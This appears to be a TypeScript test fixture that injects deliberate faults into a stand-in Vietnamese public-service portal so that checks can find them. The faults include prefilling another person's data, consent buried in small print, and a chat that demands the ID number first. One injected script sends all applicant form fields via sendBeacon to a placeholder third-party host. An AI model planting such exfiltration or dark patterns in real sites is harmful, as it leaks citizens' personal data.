/**
 * Faults of asking once, written from a citizen's words alone, without sight of the checks that are to find them.
 * Each turns the HTML documents of a healthy stand-in portal of the family `igate-v1` into those of a faulty one;
 * pages of other hosts and those that it does not touch come back as they are. Nothing is kept between calls.
 */
import { citizens } from '../../scenarios/identities/citizens.ts';

type Context = { url: URL; method: string; device: 'phone' | 'desktop' };

type Answer = string | { status: number; html: string } | { redirect: string };

type FormKind = 'prefill' | 'wrong-person' | 'asked-again' | 'store-picker' | 'keep-consent' | 'leak';
type OtherKind = 'label' | 'differs' | 'public-look-up' | 'help';

export type BlindReuseFault = {
  id: string;
  description: string;
  kind: FormKind | OtherKind;
  journey: 'residence/register-permanent' | 'public/read-site' | 'public/ask-assistant' | 'track/look-up';
  apply: (html: string, context: Context) => Answer;
};

const isPortalPage = (html: string): boolean => html.includes('<footer class="site-footer">');

const isStep = (html: string, title: string): boolean =>
  html.includes(`<li aria-current="step">${title}</li>`);

const isApplicantStep = (html: string): boolean => isStep(html, 'Thông tin người nộp hồ sơ');

const isPapersStep = (html: string): boolean => isStep(html, 'Thành phần hồ sơ');

/** The applicant's page before anything was typed: what no register holds is still empty. */
const isUntouched = (html: string, { method }: Context): boolean =>
  isApplicantStep(html) &&
  method === 'GET' &&
  ![...html.matchAll(/<input class="form-control" id="_fc_[^>]*? value="([^"]*)"/g)].some(
    ([, value]) => value !== '',
  );

const endOfMain = (html: string, added: string): string => html.replace('</main>', () => `${added}\n</main>`);

/** Another value in a text field, a list, or a list that the page loads, free to be changed; empty for none. */
const filledWith = (html: string, name: string, value: string): string =>
  html.replace(
    new RegExp(`<input\\b[^>]*\\bid="${name}"[^>]*>|<select\\b[^>]*\\bid="${name}"[^>]*>[\\s\\S]*?</select>`),
    (field) => {
      const bare = field.replace(' readonly', '').replaceAll(' selected', '');
      if (field.startsWith('<input')) return bare.replace(/ value="[^"]*"/, ` value="${value}"`);
      if (!field.includes(' data-load='))
        return bare.replace(`<option>${value}<`, `<option selected>${value}<`);
      return bare
        .replace(/ data-value="[^"]*"/, ` data-value="${value}"`)
        .replace(
          /<\/option>[\s\S]*<\/select>/,
          `</option>${value && `<option selected>${value}</option>`}</select>`,
        );
    },
  );

/** Fields of the applicant other than name and number. */
const HELD_BESIDES = / id="((?!_fc_|CongDan_tenCongDan"|CongDan_soCmnd")[^"]+)" name=/g;

const registryButtonThatFails = (html: string, context: Context): Answer => {
  if (!isUntouched(html, context)) return html;
  const emptied = [...html.matchAll(HELD_BESIDES)].reduce(
    (page, [, name = '']) => filledWith(page, name, ''),
    html,
  );
  return emptied.replace(
    '<legend>Thông tin người nộp hồ sơ</legend>',
    (legend) => `${legend}
<p><button class="btn" type="button" id="lay-csdl-dan-cu">Lấy thông tin từ CSDL quốc gia về dân cư</button>
<span id="lay-csdl-dan-cu-bao" role="status"></span></p>
<script>
document.getElementById('lay-csdl-dan-cu').addEventListener('click', () => {
  const said = document.getElementById('lay-csdl-dan-cu-bao');
  said.textContent = 'Hệ thống dân cư đang bận, công dân vui lòng tự kê khai.';
});
</script>`,
  );
};

/** Whose entry the register's answer held next: name, number and birth date are the citizen's own. */
const NEXT_IN_REGISTER: Readonly<Record<string, string>> = {
  danToc: 'Thái',
  CongDan_ngayCapCmnd: '14/03/2022',
  CongDan_diDong: '0900000188',
  CongDan_email: 'lo.van.vi.du@example.com',
  CongDan_maTinhThanh: 'Tỉnh Sơn La',
  CongDan_maPhuongXa: 'Xã Giả Lập',
  CongDan_diaChi: 'Nhà số 12, bản Ví Dụ',
};

const nextOnesEntry = (html: string, context: Context): Answer => {
  if (!isUntouched(html, context)) return html;
  const otherSex = /<option selected>Nam</.test(html) ? 'Nữ' : 'Nam';
  return Object.entries({ ...NEXT_IN_REGISTER, gioiTinh: otherSex }).reduce(
    (page, [name, value]) => filledWith(page, name, value),
    html,
  );
};

/** Row of a paper that the office looks up by itself. */
const LOOKED_UP =
  /<tr><td data-label="Chọn"><\/td>\s*<td data-label="Tên giấy tờ">Xác nhận thông tin về cư trú<\/td>[\s\S]*?<\/tr>/;

const screenshotOfOwnRecord = (html: string): Answer => {
  if (!isPapersStep(html)) return html;
  const [row = '', slot = ''] = /<tr data-slot="([^"]+)"[\s\S]*?<\/tr>/.exec(html) ?? [];
  if (row === '' || !LOOKED_UP.test(html)) return html;
  const label = 'Ảnh chụp màn hình mục “Thông tin cư trú” trên ứng dụng VNeID (chụp trong ngày nộp)';
  const asked = row
    .replaceAll(slot, 'xac-nhan-cu-tru')
    .replace(/aria-label="Chọn: [^"]*"/, `aria-label="Chọn: ${label}"`)
    .replace(/<span(?: class="required")?>[^<]*<\/span>/, `<span class="required">${label}</span>`)
    .replace(/<ul class="files">[\s\S]*?<\/ul>/, '<ul class="files"></ul>');
  return endOfMain(
    html.replace(LOOKED_UP, () => asked),
    `<script>
document.addEventListener('submit', (event) => {
  const row = document.querySelector('tr[data-slot="xac-nhan-cu-tru"]');
  if (event.target.id !== 'mainForm' || event.submitter?.name === 'viec' || row.querySelector('.files li')) return;
  event.preventDefault();
  event.stopImmediatePropagation();
  document.getElementById('loi').textContent = 'Thành phần hồ sơ chưa đầy đủ: ' + ${JSON.stringify(label)};
  row.scrollIntoView({ block: 'center' });
}, true);
</script>`,
  );
};

const storeOnlyToVisit = (html: string): Answer => {
  const [, store = ''] = /<a href="([^"]*\/ho-so-dien-tu)"/.exec(html) ?? [];
  if (!isPapersStep(html) || store === '') return html;
  return html.replace(
    /<button [^>]*data-store-picker=[^>]*>[^<]*<\/button>/g,
    `<a class="btn" href="${store}" target="_blank" rel="noopener">Kho giấy tờ của tôi</a>`,
  );
};

const consentInSmallPrint = (html: string): Answer => {
  if (!isPapersStep(html)) return html;
  return html
    .replace(
      /<label class="check"><input type="checkbox" name="(luuKho_[^"]+)"[\s\S]*?<\/label>/g,
      '<input type="hidden" name="$1" value="co">',
    )
    .replace(
      /(<button [^>]*id="btn-next"[\s\S]*?<\/div>)/,
      `$1
<p><small>Khi bấm “Đồng ý và tiếp tục”, công dân đã đọc hướng dẫn, cam đoan giấy tờ là thật và đồng ý để hệ thống
lưu trữ tệp tin đã tải lên tại kho tài liệu điện tử phục vụ các lần giải quyết sau.</small></p>`,
    );
};

const recordedVisit = (html: string): Answer => {
  if (!isApplicantStep(html)) return html;
  // What recorders of visits send unless somebody masks the fields, to a third party that the fleet serves.
  return endOfMain(
    html,
    `<script>
document.getElementById('mainForm').addEventListener('submit', ({ target }) => {
  const fields = [...target.querySelectorAll('input.form-control, select.form-control')];
  const seen = fields.map((field) => ({ s: '#' + field.id, v: field.value }));
  navigator.sendBeacon('https://do-luong.fleet.invalid/ghi-lai', JSON.stringify({ p: location.pathname, w: innerWidth, e: seen }));
});
</script>`,
  );
};

const appointmentAtTheEnd = (html: string): Answer => {
  if (!html.includes('<h1>Kết quả nộp hồ sơ</h1>')) return html;
  return html.replace(
    /(<dl class="facts" id="ket-qua"[\s\S]*?<\/dl>)/,
    `$1
<section class="panel panel-default"><h2 class="panel-heading">Phiếu hẹn</h2><div class="panel-body">
<p>Trong 03 ngày làm việc, mời ông/bà đến trụ sở Công an cấp xã (giờ hành chính), xuất trình giấy tờ gốc để cán bộ
kiểm tra và ký vào tờ khai. Quá thời gian trên, hồ sơ được coi là không hợp lệ và bị trả lại.</p></div></section>`,
  );
};

/** Cells of the ways of filing, up to the fee online; then up to the fee at the counter, and that fee. */
const FEES =
  /(data-label="Hình thức nộp">Trực tuyến<[\s\S]*?data-label="Phí, lệ phí">)[^<]*(<[\s\S]*?data-label="Phí, lệ phí">)([^<]*)/;

const counterFeeOnline = (html: string): Answer => {
  const counter = FEES.exec(html)?.[3];
  if (counter === undefined || !isPortalPage(html)) return html;
  // The reduction for filing online never reached this portal.
  return html
    .replace(FEES, `$1${counter}$2${counter}`)
    .replace(/(<h2>Phí, lệ phí<\/h2>\s*<ul><li>)[^<]*/, `$1${counter}`);
};

const namedInHistory = (html: string): Answer => {
  if (!html.includes('<h2>Quá trình xử lý</h2>')) return html;
  const [, signedIn = ''] = /id="account_name">([^<]*)</.exec(html) ?? [];
  // Documents do not tell who filed: whoever is signed in, else the citizen with whom journeys are walked.
  const filer = citizens.find(({ fullName }) => fullName === signedIn) ?? citizens[0];
  const named = `Ông/bà ${filer?.fullName} (CCCD ${filer?.idNumber}) nộp hồ sơ trực tuyến`;
  return html.replace('Công dân nộp hồ sơ trực tuyến', named);
};

const chatThatWantsNumbers = (html: string): Answer => {
  const [, address = ''] = /<details class="assistant" data-address="([^"]*)"/.exec(html) ?? [];
  if (!isPortalPage(html) || address === '') return html;
  // The form for prospects of a bought chat: nobody is served before it is filled in.
  return endOfMain(
    html,
    `<script>
{
  const send = window.fetch;
  const say = (traLoi) => Promise.resolve(new Response(JSON.stringify({ traLoi }), { headers: { 'content-type': 'application/json' } }));
  window.fetch = (to, init) => {
    if (to !== ${JSON.stringify(address)} || sessionStorage.getItem('da-xac-minh')) return send(to, init);
    if (!/\\d{12}/.test(JSON.parse(init.body).cauHoi))
      return say('Dạ, để em hỗ trợ, anh/chị cho em xin họ tên, số điện thoại và số CCCD (12 số) của mình ạ.');
    sessionStorage.setItem('da-xac-minh', 'co');
    return say('Em cảm ơn ạ. Mời anh/chị đặt câu hỏi.');
  };
}
</script>`,
  );
};

export const BLIND_REUSE_FAULTS: readonly BlindReuseFault[] = [
  {
    id: 'registry-button-fails',
    description: 'Name and number are filled in; the button that fetches the rest says it is busy.',
    kind: 'prefill',
    journey: 'residence/register-permanent',
    apply: registryButtonThatFails,
  },
  {
    id: 'next-ones-entry',
    description: "Sex, card, telephone, mail and address are the next one's in the register.",
    kind: 'wrong-person',
    journey: 'residence/register-permanent',
    apply: nextOnesEntry,
  },
  {
    id: 'screenshot-of-own-record',
    description: "The office's own record of the residence is required as a picture of the app.",
    kind: 'asked-again',
    journey: 'residence/register-permanent',
    apply: screenshotOfOwnRecord,
  },
  {
    id: 'store-only-to-visit',
    description: 'A link opens the store in another tab; nothing can be taken over from there.',
    kind: 'store-picker',
    journey: 'residence/register-permanent',
    apply: storeOnlyToVisit,
  },
  {
    id: 'consent-in-small-print',
    description: 'No box beside papers: small print says that going on agrees to keeping.',
    kind: 'keep-consent',
    journey: 'residence/register-permanent',
    apply: consentInSmallPrint,
  },
  {
    id: 'recorded-visit',
    description: "A recorder of visits sends the applicant's fields to a third party.",
    kind: 'leak',
    journey: 'residence/register-permanent',
    apply: recordedVisit,
  },
  {
    id: 'appointment-at-the-end',
    description: 'After filing fully online, the citizen is called in with the original papers.',
    kind: 'label',
    journey: 'residence/register-permanent',
    apply: appointmentAtTheEnd,
  },
  {
    id: 'counter-fee-online',
    description: "The service's page gives the counter's fee for filing online as well.",
    kind: 'differs',
    journey: 'public/read-site',
    apply: counterFeeOnline,
  },
  {
    id: 'named-in-history',
    description: 'The public history of a dossier names the citizen with the whole number.',
    kind: 'public-look-up',
    journey: 'track/look-up',
    apply: namedInHistory,
  },
  {
    id: 'chat-wants-numbers',
    description: 'The assistant answers nothing before it has name, telephone and identity number.',
    kind: 'help',
    journey: 'public/ask-assistant',
    apply: chatThatWantsNumbers,
  },
];
